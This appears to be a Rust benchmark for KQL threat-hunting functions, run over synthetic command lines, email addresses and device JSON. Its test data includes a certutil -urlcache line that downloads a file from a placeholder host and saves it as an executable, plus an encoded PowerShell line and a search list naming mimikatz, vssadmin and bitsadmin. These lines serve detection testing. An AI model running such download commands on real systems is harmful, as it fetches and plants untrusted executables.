//! Searches and conversions over a batch of texts as hunts have them: command lines, addresses, JSON.

use std::hint::black_box;
use std::sync::Arc;

use arrow::array::{ArrayRef, StringViewArray};
use divan::Bencher;
use divan::counter::BytesCount;
use kql_functions::function::Kernel;
use kql_functions::{Argument, Arguments};
use kql_types::Value;

fn main() {
    divan::main();
}

const ROWS: usize = 8192;

fn command_lines() -> Vec<String> {
    (0..ROWS)
        .map(|row| match row % 50 {
            0 => format!("powershell.exe -NoProfile -EncodedCommand {:0120x}", row * 7919),
            1 => {
                format!("certutil.exe -urlcache -split -f https://cdn{}.example/{row:x}.bin C:\\Temp\\a.exe", row % 500)
            }
            _ => format!(
                "\"C:\\Program Files\\Tool\\tool.exe\" /quiet /log:C:\\Logs\\{row:x}.log --type=render /job {row}"
            ),
        })
        .collect()
}

fn addresses() -> Vec<String> {
    (0..ROWS).map(|row| format!("ann.akers{row}@partner{:04}.example", row % 4000)).collect()
}

fn devices() -> Vec<String> {
    (0..ROWS)
        .map(|row| {
            format!(
                r#"{{"deviceId":"{row:036x}","displayName":"LAPTOP-{row}","operatingSystem":"Windows 10","isCompliant":{}}}"#,
                row % 3 == 0
            )
        })
        .collect()
}

fn run(bencher: Bencher<'_, '_>, texts: &[String], name: &str, constants: &[&str]) {
    let overload = kql_functions::function(name).and_then(|(function, _)| function.overloads.first());
    let Some(Kernel::Vectorized(kernel)) = overload.map(|overload| overload.kernel) else {
        return eprintln!("{name} has no kernel");
    };
    let column: ArrayRef = Arc::new(StringViewArray::from_iter_values(texts));
    let constants = constants.iter().map(|text| Argument::Constant(Value::String((*text).to_owned()).to_array()));
    let mut arguments: Vec<Argument> = std::iter::once(Argument::Array(column)).chain(constants).collect();
    if name == "extract" {
        // The pattern and the group come first.
        arguments.rotate_left(1);
        arguments.insert(1, Argument::Constant(Value::Long(1).to_array()));
    }
    let bytes: usize = texts.iter().map(String::len).sum();
    bencher
        .counter(BytesCount::new(bytes))
        .bench_local(|| kernel(black_box(&Arguments::new(&arguments, ROWS))).map_err(|error| error.to_string()));
}

#[divan::bench]
fn has_any_of_six(bencher: Bencher<'_, '_>) {
    let terms = ["EncodedCommand", "urlcache", "whoami", "mimikatz", "vssadmin", "bitsadmin"];
    run(bencher, &command_lines(), "has_any", &terms);
}

#[divan::bench]
fn contains(bencher: Bencher<'_, '_>) {
    run(bencher, &command_lines(), "contains", &["domain admins"]);
}

#[divan::bench]
fn has(bencher: Bencher<'_, '_>) {
    run(bencher, &command_lines(), "has", &["urlcache"]);
}

#[divan::bench]
fn matches_regex(bencher: Bencher<'_, '_>) {
    run(bencher, &command_lines(), "matches regex", &[r"-f\s+https?://"]);
}

#[divan::bench]
fn extract(bencher: Bencher<'_, '_>) {
    run(bencher, &command_lines(), "extract", &[r"https?://([^/\s]+)/"]);
}

#[divan::bench]
fn part_of_an_address(bencher: Bencher<'_, '_>) {
    run(bencher, &addresses(), "$split_part_tostring", &["@", "$[1]"]);
}

#[divan::bench]
fn member_as_string(bencher: Bencher<'_, '_>) {
    run(bencher, &devices(), "$path_tostring", &["$.operatingSystem"]);
}

#[divan::bench]
fn member_as_bool(bencher: Bencher<'_, '_>) {
    run(bencher, &devices(), "$path_tobool", &["$.isCompliant"]);
}
